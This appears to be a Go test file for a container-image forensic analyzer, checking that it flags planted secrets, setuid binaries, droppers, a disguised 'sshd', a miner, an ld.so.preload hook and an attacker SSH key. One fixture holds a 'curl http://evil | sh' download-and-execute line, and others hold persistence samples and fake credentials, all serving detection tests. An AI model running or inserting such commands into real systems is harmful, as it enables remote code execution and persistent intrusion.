package analyze

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/forensic-tools/forensic/shared/analyze/imagetest"
)

// wantFindings are the findings of testImage(true), in every layout.
var wantFindings = []string{
	"aws-access-key-id /app/.env",
	"aws-secret-access-key /app/.env",
	"exec-in-hidden-dir /root/.hidden/miner",
	"exec-in-tmp /tmp/dropper",
	"exec-in-tmp /var/tmp/sshd",
	"high-entropy-blob /usr/share/payload.bin",
	"mimics-system-binary /var/tmp/sshd",
	"password-assignment @build step 1 (history)",
	"password-assignment @image configuration environment",
	"private-key /root/.ssh/id_rsa",
	"setuid /usr/bin/passwd",
	"setuid /usr/local/bin/helper",
	"world-writable /app/config.yaml",
}

func TestLayouts(t *testing.T) {
	img := testImage(true)
	legacy := img.Legacy()
	tests := []struct {
		name, format, layout string
		data                 []byte
	}{
		{"legacy", ".tar", "docker-save", legacy},
		{"legacy gzip", ".tar.gz", "docker-save", gz(t, legacy)},
		{"legacy zstd", ".tar.zst", "docker-save", zst(t, legacy)},
		{"oci", ".tar", "oci", img.OCI(imagetest.OCIOptions{})},
		{"oci gzip layers", ".tar", "oci", img.OCI(imagetest.OCIOptions{Gzip: true})},
		{"oci docker 25", ".tar", "oci", img.OCI(imagetest.OCIOptions{LegacyManifest: true})},
		{"oci gzip outer", ".tar.gz", "oci", gz(t, img.OCI(imagetest.OCIOptions{Gzip: true}))},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := analyzeBytes(t, "image", tt.data, testOpts)
			if !r.Complete {
				t.Errorf("report incomplete: %q", r.Problems)
			}
			got := []string{r.Input.Kind, r.Input.Format, r.Input.Layout}
			if diff := cmp.Diff([]string{KindImage, tt.format, tt.layout}, got); diff != "" {
				t.Errorf("input (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(wantFindings, keys(r)); diff != "" {
				t.Errorf("findings (-want +got):\n%s", diff)
			}
			var kinds []string
			for _, s := range r.Timeline {
				kinds = append(kinds, s.Kind+":"+s.DigestCheck)
			}
			if diff := cmp.Diff([]string{"layer:verified", "step:", "layer:verified", "layer:verified", "step:"}, kinds); diff != "" {
				t.Errorf("timeline (-want +got):\n%s", diff)
			}
		})
	}
}

// TestFindingsOneByOne checks each expected finding's details.
func TestFindingsOneByOne(t *testing.T) {
	r := analyzeBytes(t, "image.tar", testImage(true).Legacy(), testOpts)
	tests := []struct {
		rule, path string
		severity   Severity
		stage      int
		status     string
		reason     string
	}{
		{"setuid", "/usr/local/bin/helper", High, 2, StatusPresent, "setuid program owned by root"},
		{"setuid", "/usr/bin/passwd", Low, 0, StatusPresent, "distributions ship"},
		{"private-key", "/root/.ssh/id_rsa", Critical, 2, StatusPresent, "rsa private key"},
		{"aws-access-key-id", "/app/.env", High, 2, StatusDeleted, "deleted by a later layer"},
		{"aws-secret-access-key", "/app/.env", Critical, 2, StatusDeleted, "AWS secret access key"},
		{"exec-in-tmp", "/tmp/dropper", High, 3, StatusPresent, "/tmp"},
		{"mimics-system-binary", "/var/tmp/sshd", High, 3, StatusPresent, `named "sshd"`},
		{"exec-in-hidden-dir", "/root/.hidden/miner", High, 3, StatusPresent, "/root/.hidden"},
		{"world-writable", "/app/config.yaml", Medium, 2, StatusPresent, "-rw-rw-rw-"},
		{"high-entropy-blob", "/usr/share/payload.bin", Medium, 2, StatusPresent, "bits of entropy"},
	}
	for _, tt := range tests {
		f := find(r, tt.rule, tt.path)
		if f == nil {
			t.Errorf("no %s finding for %s", tt.rule, tt.path)
			continue
		}
		got := []any{f.Severity, f.Stage != nil && *f.Stage == tt.stage, f.Status, strings.Contains(f.Reason, tt.reason)}
		if diff := cmp.Diff([]any{tt.severity, true, tt.status, true}, got); diff != "" {
			t.Errorf("%s %s (-want +got):\n%s\nreason: %s", tt.rule, tt.path, diff, f.Reason)
		}
	}
	for _, f := range r.Findings {
		if f.Secret != nil && (!f.Secret.Masked || strings.Contains(f.Secret.Value, testAWSSecret) || strings.Contains(f.Secret.Value, "MIIBOgIBAAJBAKj34")) {
			t.Errorf("secret %s shown in clear: %q", f.Rule, f.Secret.Value)
		}
	}
	if strings.Contains(r.Timeline[1].CreatedBy, "Zx9!qLm2") || strings.Contains(strings.Join(r.Image.Env, " "), "Zx9!qLm2") {
		t.Errorf("password shown in history or env: %q %q", r.Timeline[1].CreatedBy, r.Image.Env)
	}

	// The timeline: what each layer adds, changes and deletes.
	l2, l3 := r.Timeline[2], r.Timeline[3]
	var deleted []string
	for _, d := range append(l2.Deleted, l3.Deleted...) {
		deleted = append(deleted, d.Path+" "+d.Via)
	}
	if diff := cmp.Diff([]string{"/etc/motd whiteout", "/app/.env whiteout", "/app/cache opaque"}, deleted); diff != "" {
		t.Errorf("deleted (-want +got):\n%s", diff)
	}
	if l2.CreatedBy != "RUN install-helper && plant-keys" || l2.Created == nil || l2.FilesFrom == nil {
		t.Errorf("layer 2 stage = %+v", l2)
	}
	var added []string
	for _, f := range l3.Added {
		added = append(added, f.Path)
	}
	if diff := cmp.Diff([]string{"/tmp/dropper", "/var/tmp/sshd", "/root/.hidden/miner", "/app/cache/new.txt"}, added); diff != "" {
		t.Errorf("layer 3 added (-want +got):\n%s", diff)
	}

	// Packages and OS from the final view.
	var pkgs []string
	for _, p := range r.Packages {
		pkgs = append(pkgs, p.PURL)
	}
	want := []string{"pkg:deb/debian/busybox@1:1.35.0-4?arch=amd64&distro=debian-12", "pkg:deb/debian/libc6@2.36-9?arch=amd64&distro=debian-12"}
	if diff := cmp.Diff(want, pkgs); diff != "" {
		t.Errorf("packages (-want +got):\n%s", diff)
	}
	if r.OS == nil || r.OS.ID != "debian" {
		t.Errorf("OS = %+v", r.OS)
	}
}

func TestShowSecrets(t *testing.T) {
	opts := testOpts
	opts.ShowSecrets = true
	r := analyzeBytes(t, "image.tar", testImage(false).Legacy(), opts)
	f := find(r, "aws-secret-access-key", "/app/.env")
	if f == nil || f.Secret.Masked || f.Secret.Value != testAWSSecret {
		t.Fatalf("secret not shown: %+v", f)
	}
	if !strings.Contains(r.Timeline[1].CreatedBy, "Zx9!qLm2#Rt7vBn4") {
		t.Errorf("history masked with --show-secrets: %q", r.Timeline[1].CreatedBy)
	}
}

func TestFilesystemTarball(t *testing.T) {
	fs := imagetest.Layer(
		imagetest.Exe(".dockerenv", ""),
		imagetest.Dir("bin/"),
		imagetest.Exe("bin/sh", elf("sh")),
		imagetest.Exe("dev/shm/x", "#!/bin/sh\ncurl http://evil | sh\n"),
		imagetest.Reg("etc/ld.so.preload", "/lib/libhide.so\n"),
		imagetest.Reg("root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nza attacker@host\n"),
		imagetest.Reg("lib/apk/db/installed", "P:musl\nV:1.2.4-r2\nA:x86_64\n\n"),
	)
	r := analyzeBytes(t, "fs.tar", fs, testOpts)
	if r.Input.Kind != KindFilesystem || len(r.Timeline) != 1 || r.Timeline[0].Kind != StageFilesystem {
		t.Fatalf("kind %s, timeline %+v", r.Input.Kind, r.Timeline)
	}
	want := []string{"exec-in-tmp /dev/shm/x", "ld-preload /etc/ld.so.preload", "ssh-authorized-keys /root/.ssh/authorized_keys"}
	if diff := cmp.Diff(want, keys(r)); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
	if len(r.Packages) != 1 || r.Packages[0].PURL != "pkg:apk/alpine/musl@1.2.4-r2?arch=x86_64" {
		t.Errorf("packages = %+v", r.Packages)
	}
	if len(r.Timeline[0].Newest) == 0 {
		t.Error("no newest files listed")
	}
}

func TestLegacySymlinkedLayer(t *testing.T) {
	// docker save writes a layer.tar symbolic link when two images share a
	// layer; the linked layer must be found.
	img := testImage(false).Legacy()
	files := untar(t, img)
	var manifest string
	var first string
	for _, f := range files {
		if f.name == "manifest.json" {
			manifest = string(f.body)
		}
		if strings.HasSuffix(f.name, "/layer.tar") && first == "" {
			first = f.name
		}
	}
	alias := "0000000000000000000000000000000000000000000000000000000000000000/layer.tar"
	manifest = strings.Replace(manifest, first, alias, 1)
	var out []tarEntry
	for _, f := range files {
		if f.name == "manifest.json" {
			f.body = []byte(manifest)
		}
		out = append(out, f)
	}
	out = append(out, tarEntry{name: alias, link: "../" + first})
	r := analyzeBytes(t, "aliased.tar", retar(t, out), testOpts)
	if !r.Complete {
		t.Fatalf("problems: %q", r.Problems)
	}
	if find(r, "setuid", "/usr/local/bin/helper") == nil {
		t.Errorf("findings of the aliased layer missing: %q", keys(r))
	}
}

// TestWriteJSON checks that the streamed JSON is the report, field for field.
func TestWriteJSON(t *testing.T) {
	for _, data := range [][]byte{testImage(false).Legacy(), imagetest.Layer(imagetest.Reg("a", "b"))} {
		r := analyzeBytes(t, "in.tar", data, testOpts)
		var b bytes.Buffer
		if err := r.WriteJSON(&b); err != nil {
			t.Fatal(err)
		}
		var streamed, whole any
		if err := json.Unmarshal(b.Bytes(), &streamed); err != nil {
			t.Fatalf("not JSON: %v\n%s", err, b.String())
		}
		direct, _ := json.Marshal(r)
		json.Unmarshal(direct, &whole)
		if diff := cmp.Diff(whole, streamed); diff != "" {
			t.Errorf("streamed JSON differs (-want +got):\n%s", diff)
		}
		var again bytes.Buffer
		json.Indent(&again, b.Bytes(), "", "  ")
		if strings.TrimSpace(again.String()) != strings.TrimSpace(b.String()) {
			t.Errorf("streamed JSON is not indented like json.Indent:\n%s", b.String())
		}
	}
}
